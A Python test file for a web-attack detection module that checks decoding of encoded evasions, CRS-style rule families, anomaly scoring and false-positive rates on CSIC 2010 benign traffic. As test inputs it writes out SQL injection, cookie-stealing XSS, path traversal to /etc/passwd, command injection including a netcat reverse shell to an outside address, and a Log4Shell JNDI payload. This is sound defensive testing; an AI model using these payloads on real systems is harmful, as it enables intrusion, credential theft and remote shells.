"""The web-attack rules: decoding first, then CRS-style families and anomaly scores.

Each family is shown on payloads in several encodings, benign values that look a little like attacks
stay under the threshold, the cheap prefilter never hides a match, and a sample of the real CSIC 2010
benign traffic (its second half, the measured one) is almost never flagged.
"""

from __future__ import annotations

import importlib.util
import re
import string
import sys
from pathlib import Path
from types import ModuleType
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parents[1]
if importlib.util.find_spec("incident_flow_security") is None:  # installed before the package existed
    sys.path.insert(0, str(ROOT / "plugins"))

from incident_flow_security.decoding import decode, percent_decode  # noqa: E402
from incident_flow_security.rules import FAMILIES, RULES, inspect_request, split_target  # noqa: E402


def _benchmark() -> ModuleType:
    spec = importlib.util.spec_from_file_location(
        "csic_false_positives", ROOT / "benchmarks" / "csic_false_positives.py"
    )
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


BENCH = _benchmark()

# --- decoding -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "text", "flag"),
    [
        ("1%27+or+%271%27%3D%271", "1' or '1'='1", None),
        ("%252e%252e%252fetc%252fpasswd", "../etc/passwd", "multiple_encoding"),
        ("..%c0%af..%c0%afetc/passwd", "../../etc/passwd", "overlong_utf8"),
        ("%u003cscript%u003e", "<script>", "unicode_escape"),
        ("&#x3c;img src=x onerror=alert(1)&#x3e;", "<img src=x onerror=alert(1)>", "html_entities"),
        ("\uff1cSCRIPT\uff1e", "<script>", "fullwidth"),
        ("A%F1adir+al+carrito", "añadir al carrito", None),  # Latin-1 bytes, as CSIC's forms send them
        ("%5cx3cscript", "<script", None),
        ("a%00b", "ab", "null_byte"),
        ("x%0aid", "x\nid", "newline"),
        ("\\u003cb\\u003e", "<b>", "js_escape"),
    ],
)
def test_decoding_undoes_encodings_and_names_the_evasions(raw: str, text: str, flag: str | None) -> None:
    decoded = decode(raw)
    assert decoded.text == text
    if flag is not None:
        assert flag in decoded.flags


def test_plus_is_a_space_only_in_query_values() -> None:
    assert decode("a+b").text == "a b"
    assert decode("/c++/a+b", plus_as_space=False).text == "/c++/a+b"


@settings(max_examples=500)
@given(st.text(max_size=300))
def test_decoding_never_raises_and_leaves_no_control_characters(value: str) -> None:
    decoded = decode(value)
    assert decoded.text == decoded.text.lower() or not decoded.text.isascii()
    assert not any(ord(c) < 32 and c != "\n" for c in decoded.text)
    percent_decode(value)


_PAYLOAD = st.text(alphabet=string.ascii_letters + string.digits + " '\"<>;|/()=.,-_:!*`{}[]?", max_size=60)


@settings(max_examples=300)
@given(_PAYLOAD, st.sampled_from(["url", "form", "double-url", "iis-%u"]))
def test_decoding_an_encoded_payload_gives_the_payload_back(payload: str, how: str) -> None:
    expected = re.sub(" +", " ", payload).lower()
    assert decode(BENCH.encode(payload, how)).text == expected


# --- families -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("target", "family"),
    [
        ("/products?id=1%27%20OR%20%271%27%3D%271", "942"),
        ("/products?id=1+UNION/**/SELECT+password+FROM+users", "942"),
        ("/products?id=1%2527%2520AND%2520SLEEP(5)--%2520-", "942"),
        ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "941"),
        ("/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E", "941"),
        ("/search?q=%EF%BC%9Csvg%2Fonload%3Dalert(1)%EF%BC%9E", "941"),
        ("/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", "930"),
        ("/download?file=..%c0%af..%c0%af..%c0%afwindows/win.ini", "930"),
        ("/static/..%5c..%5c..%5cboot.ini", "930"),
        ("/tools/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd", "932"),
        ("/tools/ping?host=%24(whoami)", "932"),
        ("/tools/ping?host=x%7Cnc%20203.0.113.5%204444%20-e%20%2Fbin%2Fsh", "932"),
        ("/api?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D", "932"),
    ],
)
def test_each_family_is_detected_through_its_encodings(target: str, family: str) -> None:
    verdict = inspect_request(target)
    assert verdict.attack, verdict
    assert family in verdict.families
    assert verdict.family == family


def test_scanner_user_agents_are_family_913() -> None:
    verdict = inspect_request("/", user_agent="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")
    assert verdict.attack and verdict.family == "913"
    assert inspect_request("/", user_agent="sqlmap/1.7.2#stable (https://sqlmap.org)").family == "913"
    assert not inspect_request("/", user_agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0").attack


@pytest.mark.parametrize(
    "target",
    [
        "/search?q=Barnes+%26+Noble",
        "/search?q=Tom+%26+Jerry+find+out",
        "/people?name=O%27Neil+and+sons",
        "/addr?dir=C%2F+Leopoldo+Alas+%22clarin%22+4%2C+6%3FB",
        "/search?q=select+a+size+from+the+list",
        "/notes?text=I%27m+here%3B+you%27re+there",
        "/calc?expr=1%2B1%3D2",
        "/docs/../img/logo.png",
        "/search?q=rock+%27n%27+roll",
        "/comment?body=see+%3Cb%3Ethis%3C%2Fb%3E",
        "/search?q=or+and+union",
        "/static/js/app.min.js?v=1.2.3",
    ],
)
def test_benign_values_that_look_a_little_like_attacks_stay_under_the_threshold(target: str) -> None:
    verdict = inspect_request(target)
    assert not verdict.attack, verdict


def test_the_score_adds_distinct_rules_and_the_threshold_is_configurable() -> None:
    verdict = inspect_request("/search?q=%3Cb%3Ehello%3C%2Fb%3E")
    assert verdict.score == 3 and not verdict.attack  # one warning: an HTML tag
    assert inspect_request("/search?q=%3Cb%3Ehello%3C%2Fb%3E", threshold=3).attack


def test_every_rule_names_a_known_family_and_severity() -> None:
    ids = [rule.id for rule in RULES]
    assert len(ids) == len(set(ids))
    for rule in RULES:
        assert rule.family in FAMILIES and rule.id.startswith(rule.family)
        assert rule.score in (2, 3, 4, 5)


def test_the_query_is_split_before_decoding() -> None:
    path, args = split_target("/a?x=1%262&y=2&&flag")
    assert path == "/a"
    assert args == [("x", "1%262"), ("y", "2"), ("", "flag")]


def _corpus() -> list[tuple[str, str]]:
    attacks = [*BENCH.generated_corpus(), *BENCH.collected_corpus()]
    return [(a.target, a.user_agent) for a in attacks]


def test_the_prefilter_never_hides_a_match() -> None:
    for target, agent in _corpus():
        fast = inspect_request(target, user_agent=agent)
        full = inspect_request(target, user_agent=agent, prefilter=False)
        assert fast.score == full.score, (target, fast, full)


@settings(max_examples=300)
@given(st.text(alphabet=string.printable, max_size=80))
def test_the_prefilter_never_hides_a_match_on_arbitrary_values(value: str) -> None:
    target = "/x?v=" + quote(value, safe="")
    assert inspect_request(target).score == inspect_request(target, prefilter=False).score


@pytest.mark.parametrize("family", ["942", "941", "930", "932"])
def test_generated_payloads_are_detected_in_every_encoding(family: str) -> None:
    attacks = [a for a in BENCH.generated_corpus() if a.family == family]
    missed = [a.target for a in attacks if not inspect_request(a.target, user_agent=a.user_agent).attack]
    assert len(missed) <= len(attacks) * 0.05, missed


def test_collected_payloads_are_mostly_detected() -> None:
    table = BENCH.detection(list(BENCH.collected_corpus()))
    for (_, family), row in table.items():
        assert row.flagged / row.payloads >= 0.75, (family, row)


# --- real benign traffic -------------------------------------------------------------------------------


def test_a_sample_of_csic_benign_traffic_is_almost_never_flagged() -> None:
    if not BENCH.CSIC.is_file():
        pytest.skip(f"{BENCH.CSIC} is absent: the shared CSIC 2010 data is not beside this checkout")
    requests = BENCH.read_csic()
    second_half = requests[len(requests) // 2 :]
    sample = second_half[::10]  # 1,800 requests, read through the real nginx parser
    rate = BENCH.flagged_rate(sample)
    assert rate.requests == len(sample)
    assert rate.rate < 0.01, rate.examples
    with_bodies = BENCH.flagged_rate(sample, with_body=True)
    assert with_bodies.rate < 0.01, with_bodies.examples


def test_form_encoding_matches_quote_plus() -> None:
    assert BENCH.encode("a b'", "form") == quote_plus("a b'", safe="")


# --- documentation ---------------------------------------------------------------------------------------


def test_docs_security_lists_every_rule_and_every_option() -> None:
    import attrs
    from incident_flow_security import SecurityOptions

    text = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
    for rule in RULES:
        assert f"| {rule.id} | {rule.family} |" in text, f"docs/security.md misses rule {rule.id}"
        assert f"| {rule.severity} ({rule.score}) |" in text
    for evasion in ("920230", "920260", "920261", "920262", "920263", "920270"):
        assert f"| {evasion} | 920 |" in text
    for field in attrs.fields(SecurityOptions):
        assert f"| `{field.name}` |" in text, f"docs/security.md misses the option {field.name}"
    defaults = SecurityOptions()
    for name in (
        "max_failures",
        "stuffing_accounts",
        "distributed_sources",
        "compromise_accounts",
        "score_threshold",
        "large_body_bytes",
        "scan_404s",
        "scan_paths",
        "exfiltration_bytes",
        "new_agent_requests",
        "sample_lines",
    ):
        assert f"| `{name}` | `{getattr(defaults, name)}` |" in text, name
